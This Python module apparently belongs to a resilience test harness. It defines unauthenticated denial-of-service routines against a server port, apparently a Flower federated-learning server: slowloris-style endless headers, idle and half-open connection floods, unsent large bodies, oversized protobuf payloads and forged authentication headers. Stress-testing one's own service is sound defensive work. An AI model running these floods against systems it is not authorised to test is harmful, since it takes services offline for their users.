"""Attacks by whoever can reach the port, without any key."""

from __future__ import annotations

import contextlib

from assault.connections import Attack, call


def nothing(attack: Attack) -> None:
    """Wait."""
    attack.over.wait()


def unsent_pulls(attack: Attack) -> None:
    """Anonymous pulls of objects whose bodies never come, renewed."""
    while not attack.over.wait(1):
        for _ in range(4):
            attack.say(call(b"pull-object", 10), listen=False)


def endless_headers(attack: Attack) -> None:
    """Heads that do not end, four at a time."""
    while not attack.over.wait(0.2):
        for _ in range(4):
            with contextlib.suppress(OSError):
                line = attack.connect()
                line.sendall(b"GET /community HTTP/1.1\r\n")
                for number in range(2000):
                    line.sendall(b"x-%d: %s\r\n" % (number, b"y" * 500))


def unsent_bodies(attack: Attack) -> None:
    """Eighty large bodies that are declared and not sent, renewed."""
    while not attack.over.wait(5):
        for _ in range(80):
            attack.say(call(b"push-object", 8 << 20), listen=False)


def idle_connections(attack: Attack) -> None:
    """Two thousand connections that say nothing."""
    while not attack.over.wait(0.5):
        for _ in range(100):
            if len(attack.sockets) < 2000:
                with contextlib.suppress(OSError):
                    attack.connect()


def silent_tcp(attack: Attack) -> None:
    """A thousand TCP connections that never shake hands, renewed as they are cut."""
    while not attack.over.wait(0.5):
        for _ in range(100):
            with contextlib.suppress(OSError):
                attack.connect_silently()
        for one in attack.sockets[:-1000]:
            one.close()
        del attack.sockets[:-1000]


def bombs(attack: Attack) -> None:
    """Eight megabytes of empty protobuf fields, as a stranger, five a second."""
    body = b"\x0a\x00" * (4 << 20)
    while not attack.over.wait(0.2):
        attack.say(call(b"push-messages", len(body), body))
        attack.say(call(b"push-object", len(body), body))


def bad_authentications(attack: Attack) -> None:
    """Calls with nobody's key, two a second, from the members' own address."""
    keys = b"flwr-public-key: eA==\r\nflwr-signature: eA==\r\nflwr-timestamp: 1\r\n"
    while not attack.over.wait(0.5):
        attack.say(call(b"pull-messages", 0, headers=keys))


STRANGERS = (
    unsent_pulls,
    endless_headers,
    unsent_bodies,
    idle_connections,
    silent_tcp,
    bombs,
    bad_authentications,
)
